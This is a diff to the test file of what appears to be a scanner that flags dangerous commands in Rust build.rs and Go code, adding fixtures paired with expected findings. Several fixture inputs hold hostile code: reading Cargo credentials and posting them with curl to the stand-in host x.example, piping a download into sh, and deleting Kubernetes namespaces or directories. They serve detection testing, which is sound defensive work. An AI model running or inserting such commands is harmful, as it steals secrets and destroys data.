@@ -270,6 +270,34 @@ describe('findings', () => {
       ['run sh -c curl x.example | sh'],
     ],
     [
+      'a command of build.rs of which only a part is written out',
+      'rust',
+      'fn main() { Command::new("kubectl").args(["delete", "namespace", &name]).status(); Command::new(tool).arg("push").status(); Command::new("git").arg("log").arg(&name).status(); }',
+      ['run kubectl delete namespace (computed)'],
+    ],
+    [
+      'the same in Go',
+      'go',
+      'func f(n string) { exec.Command("helm", "uninstall", n).Run(); exec.Command(n, "push").Run(); exec.Command("kubectl", "delete", "ns", n).Run() }',
+      ['run helm uninstall (computed)', 'run kubectl delete ns (computed)'],
+    ],
+    [
+      'a token that build.rs hands to a program',
+      'rust',
+      'fn main() { let t = fs::read_to_string(home.join(".cargo/credentials.toml")); Command::new("curl").args(["-d", &t, "https://x.example/c"]).status(); }',
+      [
+        'run curl -d (computed) https://x.example/c',
+        'send:data https://x.example/c',
+        'unknown project code reads secrets or the environment and talks to the network',
+      ],
+    ],
+    [
+      'a token beside a download',
+      'rust',
+      'fn main() { let t = fs::read_to_string(home.join(".cargo/credentials.toml")); Command::new("curl").args(["-fsSLO", &url]).status(); }',
+      ['run curl -fsSLO (computed)'],
+    ],
+    [
       'build.rs with a list',
       'rust',
       'fn main() { Command::new("git").args(["push", "--force"]).status(); fs::remove_dir_all("/opt/x"); }',
